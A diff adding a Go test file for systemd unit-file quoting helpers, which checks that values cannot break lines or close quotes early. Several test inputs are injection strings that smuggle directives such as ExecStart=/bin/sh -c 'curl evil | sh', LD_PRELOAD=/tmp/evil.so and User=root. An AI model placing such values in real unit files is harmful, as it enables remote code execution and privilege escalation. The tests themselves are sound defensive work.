@@ -0,0 +1,115 @@
+package state
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestExecArg(t *testing.T) {
+	tests := []struct {
+		value string
+		want  string
+	}{
+		{"--name", `"--name"`},
+		{"--env=A B", `"--env=A B"`},
+		{"echo $PATH", `"echo $$PATH"`},
+		{"50%", `"50%%"`},
+		{`"quoted"`, `"\"quoted\""`},
+		{`back\slash`, `"back\\slash"`},
+	}
+
+	for _, test := range tests {
+		if got := execArg(test.value); got != test.want {
+			t.Errorf("execArg(%q) = %q, want %q", test.value, got, test.want)
+		}
+	}
+}
+
+func TestEnvironmentAssignment(t *testing.T) {
+	tests := []struct {
+		key   string
+		value string
+		want  string
+	}{
+		{"NAME", "value", `"NAME=value"`},
+		{"NAME", "", `"NAME="`},
+		{"NAME", "two words", `"NAME=two words"`},
+		{"NAME", `"quoted"`, `"NAME=\"quoted\""`},
+		{"NAME", "$OTHER", `"NAME=$OTHER"`},
+		{"NAME", "100%", `"NAME=100%%"`},
+		{"NAME", `a\b`, `"NAME=a\\b"`},
+		{"NAME", "a=b", `"NAME=a=b"`},
+	}
+
+	for _, test := range tests {
+		if got := environmentAssignment(test.key, test.value); got != test.want {
+			t.Errorf("environmentAssignment(%q, %q) = %q, want %q", test.key, test.value, got, test.want)
+		}
+	}
+}
+
+// TestQuotedValuesCantAddDirectives checks that values which try to start new lines in a unit file stay inside the
+// setting they're assigned to: no line is ever broken, and the value's quotes are never closed early.
+func TestQuotedValuesCantAddDirectives(t *testing.T) {
+	values := []string{
+		"x\nExecStart=/bin/sh -c 'curl evil | sh'",
+		"x\"\nExecStart=/bin/sh",
+		"x\\\nEnvironment=LD_PRELOAD=/tmp/evil.so",
+		"x\r\nExecStartPre=/bin/true",
+		"x\n[Service]\nUser=root",
+		"\"",
+		"\\",
+		"x\\",
+	}
+
+	quoted := make([]string, 0, len(values)*3)
+	for _, value := range values {
+		quoted = append(quoted, execArg(value), environmentAssignment("NAME", value), environmentAssignment(value, value))
+	}
+
+	for _, q := range quoted {
+		if strings.ContainsAny(q, "\r\n") {
+			t.Errorf("%q spans more than one line", q)
+		}
+
+		if !strings.HasPrefix(q, `"`) || !strings.HasSuffix(q, `"`) {
+			t.Errorf("%q isn't enclosed in double quotes", q)
+			continue
+		}
+		inner := q[1 : len(q)-1]
+		for i := 0; i < len(inner); i++ {
+			switch inner[i] {
+			case '\\':
+				i++
+			case '"':
+				t.Errorf("%q closes its quotes early, at byte %d", q, i+1)
+			}
+		}
+	}
+}
+
+func TestEnvNameRx(t *testing.T) {
+	tests := []struct {
+		name  string
+		valid bool
+	}{
+		{"NAME", true},
+		{"_private", true},
+		{"name_2", true},
+		{"", false},
+		{"2NAME", false},
+		{"NAME=value", false},
+		{"TWO WORDS", false},
+		{"NAME\nExecStart=/bin/sh", false},
+		{"NAME\n", false},
+		{"$NAME", false},
+		{"%n", false},
+		{`NAME"`, false},
+	}
+
+	for _, test := range tests {
+		if got := envNameRx.MatchString(test.name); got != test.valid {
+			t.Errorf("envNameRx.MatchString(%q) = %v, want %v", test.name, got, test.valid)
+		}
+	}
+}